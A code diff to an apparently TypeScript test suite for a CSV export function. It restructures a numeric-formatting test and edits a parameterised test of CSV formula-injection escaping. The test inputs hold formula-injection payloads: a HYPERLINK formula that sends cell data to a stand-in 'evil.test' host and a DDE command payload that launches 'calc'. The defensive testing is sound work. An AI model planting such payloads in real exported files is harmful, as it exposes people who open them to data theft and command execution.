@@ -4,14 +4,21 @@ import { csvOf } from './csv.ts';
 const cell = (text: string): string => csvOf([[text]]).slice(1, -2);
 
 test('P023 numbers stay numbers, and empty cells stay empty', () => {
-  expect(csvOf([['Day', 'Plays'], ['2026-03-09', 12.5], ['2026-03-10', null], ['x', Number.NaN]])).toBe(
+  const rows = [
+    ['Day', 'Plays'],
+    ['2026-03-09', 12.5],
+    ['2026-03-10', null],
+    ['x', Number.NaN],
+  ];
+
+  expect(csvOf(rows)).toBe(
     '\uFEFF"Day","Plays"\r\n"2026-03-09",12.5\r\n"2026-03-10",\r\n"x",\r\n',
   );
   expect(csvOf([[-3]])).toBe('\uFEFF-3\r\n');
 });
 
 test.each([
-  ['=HYPERLINK("https://evil.test?"&A1,"Open")', `"'=HYPERLINK(""https://evil.test?""&A1,""Open"")"`],
+  ['=HYPERLINK("//evil.test?"&A1,"Open")', `"'=HYPERLINK(""//evil.test?""&A1,""Open"")"`],
   ["+1|cmd|'/c calc'!A0", `"'+1|cmd|'/c calc'!A0"`],
   ['-2+3', `"'-2+3"`],
   ['@SUM(A1)', `"'@SUM(A1)"`],
